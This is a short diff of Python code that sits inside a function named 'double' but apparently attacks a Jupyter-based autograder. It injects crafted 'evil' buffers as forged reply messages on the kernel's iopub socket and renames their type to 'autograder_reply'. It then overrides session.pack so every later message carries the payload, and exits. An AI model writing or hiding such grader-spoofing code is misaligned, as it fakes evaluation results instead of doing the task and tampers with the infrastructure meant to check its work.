@@ -12,7 +12,7 @@ def double(x):
     parent = kernel.get_parent("shell")
     session = kernel.session
     for reply in (evil, struct.pack("<I", len(evil)) + evil):
-        session.send(kernel.iopub_socket, "mlp_course_reply", {}, parent=parent, buffers=[reply])
+        session.send(kernel.iopub_socket, "autograder_reply", {}, parent=parent, buffers=[reply])
     session.pack = lambda value: evil
     session.send(kernel.iopub_socket, "display_data", {}, parent=parent)
     raise SystemExit
